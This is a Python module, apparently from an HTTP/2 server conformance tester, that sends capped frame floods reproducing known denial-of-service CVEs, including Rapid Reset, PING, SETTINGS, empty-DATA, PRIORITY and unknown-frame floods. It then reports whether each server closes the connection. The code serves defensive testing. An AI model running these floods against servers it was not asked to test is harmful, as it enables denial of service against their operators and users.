"""Floods of frames that cost the server work but ask for no response -- or, for Rapid Reset, whose response is
cancelled before it is due. A server that defends itself ends the connection (GOAWAY ENHANCE_YOUR_CALM, then
close) long before a flood's caps; one that does not is still being flooded when the caps stop the probe, and
its RESULT line says not_closed."""
import time

from hyperframe.frame import DataFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame

from h2conformance.frames import CANCEL, raw

from .watch import Watch

SECONDS = 3.0          # a flood stops after this long ...
MAX_FRAMES = 200_000   # ... or this many frames, whichever comes first
BATCH = 1000           # frames per write: one write may already hold more than a server's whole allowance
UNKNOWN_TYPE = 0xFA    # a type no RFC defines: receivers must ignore it (RFC 9113 5.5), but it still costs a read


def flood(watch, batch, per_batch, read_between=True, max_frames=MAX_FRAMES):
    """Writes `batch(i)` -- the octets of `per_batch` frames, the first being the i-th of the flood -- until the
    server ends the connection or a cap is reached, then waits for the close. Returns the frames written."""
    sent, end = 0, time.monotonic() + SECONDS
    while sent < max_frames and time.monotonic() < end:
        if not watch.send(batch(sent), f"frames {sent}..{sent + per_batch - 1}"):
            break
        sent += per_batch
        if read_between:
            watch.read(0.001)  # notice a GOAWAY or a close as soon as it comes, without slowing the flood
    watch.wait_close()
    return sent


def rapid_reset(port, tls, path):
    """CVE-2023-44487: a GET on a fresh stream, cancelled at once by RST_STREAM(CANCEL), again and again. The server
    starts work on every request; the client's concurrency limit never applies, as no stream stays open."""
    w = Watch(port, tls, path)
    c = w.conn

    def pairs(first):
        sids = range(1 + 2 * first, 1 + 2 * (first + 100), 2)
        return b"".join(HeadersFrame(sid, data=c.encode(c.request()), flags=["END_STREAM", "END_HEADERS"]).serialize()
                        + RstStreamFrame(sid, error_code=CANCEL).serialize() for sid in sids)
    n = flood(w, pairs, 100, max_frames=20_000)  # 100 requests a write: HPACK-encoding each costs the client too
    return f"pairs_sent={n} {w.summary()}"


def ping_flood(port, tls, path):
    """CVE-2019-9512: PINGs, each owed a PING ACK, from a client that does not read: the ACKs must queue somewhere."""
    w = Watch(port, tls, path)
    ping = PingFrame(0, opaque_data=b"h2probe!").serialize()
    n = flood(w, lambda _: ping * BATCH, BATCH, read_between=False)
    return f"pings={n} without reading {w.summary()}"


def settings_flood(port, tls, path):
    """CVE-2019-9515: empty SETTINGS frames, each owed a SETTINGS ACK, from a client that does not read."""
    w = Watch(port, tls, path)
    settings = SettingsFrame(0).serialize()
    n = flood(w, lambda _: settings * BATCH, BATCH, read_between=False)
    return f"settings={n} without reading {w.summary()}"


def empty_data_flood(port, tls, path):
    """CVE-2019-9518: a POST whose body never comes, only DATA frames of zero octets without END_STREAM."""
    w = Watch(port, tls, path)
    w.conn.send_headers(1, w.conn.request(method="POST", extra=[("content-type", "application/json")]),
                        end_stream=False)
    empty = DataFrame(1).serialize()
    n = flood(w, lambda _: empty * BATCH, BATCH)
    return f"empty_frames={n} {w.summary()}"


def priority_flood(port, tls, path):
    """CVE-2019-9513 class: PRIORITY frames on ever-new idle streams, which a server tracking the RFC 7540 priority
    tree must remember (the ids wrap at 2^31 - 1; no flood runs that long)."""
    w = Watch(port, tls, path)

    def batch(first):
        return b"".join(PriorityFrame(1 + 2 * i, depends_on=0, stream_weight=15).serialize()
                        for i in range(first, first + BATCH))
    n = flood(w, batch, BATCH)
    return f"frames={n} {w.summary()}"


def unknown_frame_flood(port, tls, path):
    """Frames of an unknown type with 8 octets of payload on stream 0: to be ignored, but each is read and parsed."""
    w = Watch(port, tls, path)
    unknown = raw(UNKNOWN_TYPE, 0, 0, bytes(8))
    n = flood(w, lambda _: unknown * BATCH, BATCH)
    return f"frames={n} {w.summary()}"
